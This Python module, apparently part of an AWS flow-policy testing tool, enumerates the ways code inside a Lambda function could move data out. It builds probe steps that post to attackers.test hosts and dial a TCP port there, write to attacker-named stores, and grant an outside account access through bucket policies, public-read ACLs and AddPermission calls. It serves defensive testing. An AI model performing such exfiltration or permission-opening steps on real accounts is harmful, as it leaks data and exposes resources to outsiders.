"""Every way out that code in place of a function tries.

Knows stores, hosts and the attacker's own places. Does not know what a policy says of them.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

from valve_aws.attack import concrete
from valve_aws.model.policy import FlowPolicy
from valve_aws.model.ports import Tables
from valve_aws.model.stack import Resource, Stack

OUTSIDER = "999999999999"
"""The attacker's account."""


@dataclass(frozen=True, slots=True, eq=False)
class Outlet:
    """One way out. `{text}` in its step stands for what is carried."""

    family: str
    title: str
    step: Mapping[str, Any]
    place: str
    """Where it turns up (`places.py`)."""
    target: str = ""
    """The store's ARN, or the destination, as the policy would name it; "" for what nothing may name."""
    opens: bool = False
    """It opens an exit of `target`, so that only a `grant` allows it."""
    key: Mapping[str, str] = field(default_factory=dict)


FAMILIES = {
    "foreign": "somebody else's stores and keys",
    "stores": "stores of the stack",
    "hosts": "other hosts",
    "names": "names that are looked up",
    "logs": "logs",
    "results": "results",
    "configure": "calls that open an exit",
    "behind": "what stays behind",
}
"""Family → in words."""


def outlets(stack: Stack, policy: FlowPolicy, schemas: Tables) -> Iterator[Outlet]:
    """Yield all ways out of a stack, but the result and what stays behind."""
    yield from _foreign(stack)
    for store in stack.resources.values():
        for table in (WRITES, OPENS):
            if store.kind in table:
                yield from table[store.kind](store, schemas)
    for function in stack.functions.values():
        add = _call(
            "lambda",
            "AddPermission",
            FunctionName=function.name,
            StatementId="{text}",
            Action="lambda:InvokeFunction",
            Principal=OUTSIDER,
        )
        yield _opening(function.arn, function.logical, add, f"wire:{function.name}")
    yield from _hosts(policy)
    yield Outlet("names", "a name under attackers.test", _get("https://{text}.attackers.test/"), "dns:")
    yield Outlet("logs", "a log line", {"kind": "print", "line": "{text}"}, "log:", "logs")


def _call(service: str, operation: str, **params: Any) -> dict[str, Any]:
    return {"kind": "call", "service": service, "operation": operation, "params": params}


def _get(url: str) -> dict[str, Any]:
    return {"kind": "http", "method": "GET", "url": url, "body": ""}


def _post(url: str) -> dict[str, Any]:
    return {"kind": "http", "method": "POST", "url": url, "body": "{text}"}


def _foreign(stack: Stack) -> Iterator[Outlet]:
    """The attacker's stores, with the function's role and with his own keys."""
    at = f"{stack.region}:{stack.account}"
    bucket, topic = "arn:aws:s3:::attackers-files", f"arn:aws:sns:{at}:attackers-news"
    table, flow = (
        f"arn:aws:dynamodb:{at}:table/attackers-notes",
        f"arn:aws:kinesis:{at}:stream/attackers-flow",
    )
    queue = f"https://sqs.{stack.region}.amazonaws.com/{OUTSIDER}/attackers-jobs"
    put = _call("s3", "PutObject", Bucket="attackers-files", Key="{text}", Body="{text}")
    send = _call("sqs", "SendMessage", QueueUrl=queue, MessageBody="{text}")
    publish = _call("sns", "Publish", TopicArn=topic, Message="{text}")
    note = _call("dynamodb", "PutItem", TableName="attackers-notes", Item={"id": {"S": "{text}"}})
    record = _call("kinesis", "PutRecord", StreamName="attackers-flow", Data="{text}", PartitionKey="p")
    for step, place, target in (
        (put, "s3:attackers-files", bucket),
        (send, "sqs:attackers-jobs", f"arn:aws:sqs:{stack.region}:{OUTSIDER}:attackers-jobs"),
        (publish, "sns:attackers-news", topic),
        (note, "dynamodb:attackers-notes", table),
        (record, "kinesis:attackers-flow", flow),
    ):
        title = f"{step['service']}:{step['operation']} {place.partition(':')[2]}"
        yield Outlet("foreign", title, step, place, target)
    title = "s3:PutObject attackers-files, his keys"
    yield Outlet("foreign", title, {**put, "foreign": True}, "s3:attackers-files")


# Stores of the stack: what is written, and what its name says


def _bucket(store: Resource, _: Any) -> Iterator[Outlet]:
    put = _call("s3", "PutObject", Bucket=store.name, Key="probe/out", Body="{text}")
    place = f"s3:{store.name}"
    yield Outlet("stores", f"s3:PutObject {store.logical}", put, place, store.arn, key={"": "probe/out"})
    named = _call("s3", "PutObject", Bucket=store.name, Key="probe/{text}", Body="")
    title = f"s3:PutObject {store.logical}, in the key"
    yield Outlet("stores", title, named, place, store.arn, key={"": "probe/out"})


def _address(store: Resource) -> str:
    """Return a queue's URL."""
    _, _, _, region, account, name = store.arn.split(":", 5)
    return f"https://sqs.{region}.amazonaws.com/{account}/{name}"


def _fifo(store: Resource) -> dict[str, str]:
    fifo = store.name.endswith(".fifo")
    return {"MessageGroupId": "g", "MessageDeduplicationId": "{text}"} if fifo else {}


def _queue(store: Resource, _: Any) -> Iterator[Outlet]:
    """Why seen on the wire: a function that the queue wakes takes the message away."""
    attribute = {"trace": {"DataType": "String", "StringValue": "{text}"}}
    for title, sent in (
        (store.logical, {"MessageBody": "{text}"}),
        (f"{store.logical}, in an attribute", {"MessageBody": "-", "MessageAttributes": attribute}),
    ):
        send = _call("sqs", "SendMessage", QueueUrl=_address(store), **sent, **_fifo(store))
        yield Outlet("stores", f"sqs:SendMessage {title}", send, f"wire:{store.name}", store.arn)


def _topic(store: Resource, _: Any) -> Iterator[Outlet]:
    publish = _call("sns", "Publish", TopicArn=store.arn, Message="{text}", **_fifo(store))
    yield Outlet("stores", f"sns:Publish {store.logical}", publish, f"sns:{store.name}", store.arn)


def _table(store: Resource, schemas: Tables) -> Iterator[Outlet]:
    schema = schemas(store.arn)
    if schema is None:
        return
    names = [schema.partition, *([schema.sort] if schema.sort else [])]
    keys = {name: {kind: "8" if kind == "N" else "out"} for name, kind in names}
    text = "aContent" if "content" in keys else "content"
    put = _call("dynamodb", "PutItem", TableName=store.name, Item={**keys, text: {"S": "{text}"}})
    plain = {name: "out" for name, _ in names}
    title = f"dynamodb:PutItem {store.logical}"
    yield Outlet("stores", title, put, f"dynamodb:{store.name}", store.arn, key=plain)


def _stream(store: Resource, _: Any) -> Iterator[Outlet]:
    put = _call("kinesis", "PutRecord", StreamName=store.name, Data="{text}", PartitionKey="p")
    yield Outlet("stores", f"kinesis:PutRecord {store.logical}", put, f"kinesis:{store.name}", store.arn)


WRITES: dict[str, Callable[[Resource, Tables], Iterator[Outlet]]] = {
    "AWS::S3::Bucket": _bucket,
    "AWS::SQS::Queue": _queue,
    "AWS::SNS::Topic": _topic,
    "AWS::DynamoDB::Table": _table,
    "AWS::Kinesis::Stream": _stream,
}


# Calls that open an exit


def _opening(arn: str, logical: str, step: Mapping[str, Any], place: str, more: str = "") -> Outlet:
    title = f"{step['service']}:{step['operation']} {logical}{more}"
    return Outlet("configure", title, step, place, arn, opens=True)


def _open_bucket(store: Resource, _: Any) -> Iterator[Outlet]:
    statement = {
        "Sid": "{text}",
        "Effect": "Allow",
        "Principal": {"AWS": f"arn:aws:iam::{OUTSIDER}:root"},
        "Action": "s3:GetObject",
        "Resource": f"{store.arn}/*",
    }
    policy = json.dumps({"Version": "2012-10-17", "Statement": [statement]})
    put = _call("s3", "PutBucketPolicy", Bucket=store.name, Policy=policy)
    yield _opening(store.arn, store.logical, put, f"wire:{store.name}")
    public = _call("s3", "PutObject", Bucket=store.name, Key="{text}", Body="", ACL="public-read")
    yield _opening(store.arn, store.logical, public, f"wire:{store.name}", ", for all to read")


def _open_queue(store: Resource, _: Any) -> Iterator[Outlet]:
    told = {"Label": "{text}", "AWSAccountIds": [OUTSIDER], "Actions": ["ReceiveMessage"]}
    add = _call("sqs", "AddPermission", QueueUrl=_address(store), **told)
    yield _opening(store.arn, store.logical, add, f"wire:{store.name}")


def _open_topic(store: Resource, _: Any) -> Iterator[Outlet]:
    told = {"Protocol": "https", "Endpoint": "https://attackers.test/{text}"}
    subscribe = _call("sns", "Subscribe", TopicArn=store.arn, **told)
    yield _opening(store.arn, store.logical, subscribe, f"wire:{store.name}")


OPENS: dict[str, Callable[[Resource, Tables], Iterator[Outlet]]] = {
    "AWS::S3::Bucket": _open_bucket,
    "AWS::SQS::Queue": _open_queue,
    "AWS::SNS::Topic": _open_topic,
}


# Hosts

URL = re.compile(r"(https?|tcp)://([^/?#:]+)(?::(\d+))?(.*)", re.DOTALL)


def _hosts(policy: FlowPolicy) -> Iterator[Outlet]:
    yield _host("https", "attackers.test", "/", 0)
    yield _host("tcp", "db.attackers.test", "", 5432)
    for rule in policy.stores:
        m = URL.fullmatch(concrete.text(rule.target))
        if m is not None:
            yield _host(m[1], m[2], m[4], int(m[3] or 0))


def _host(scheme: str, host: str, path: str, port: int) -> Outlet:
    url = f"{scheme}://{host}{f':{port}' if port else ''}{path}"
    if scheme == "tcp":
        step: dict[str, Any] = {"kind": "dial", "host": host, "port": port, "line": "{text}"}
        return Outlet("hosts", url, step, f"tcp:{host}", url)
    return Outlet("hosts", f"POST {url}", _post(url), f"host:{host}", url)


def named_hosts(found: Iterable[Outlet]) -> tuple[list[str], list[tuple[str, int]]]:
    """Return the hosts that must answer over HTTP, and those with their ports that must answer otherwise."""
    web = [o.place.partition(":")[2] for o in found if o.place.startswith("host:")]
    raw = [(o.step["host"], o.step["port"]) for o in found if o.step["kind"] == "dial"]
    return list(dict.fromkeys(web)), list(dict.fromkeys(raw))
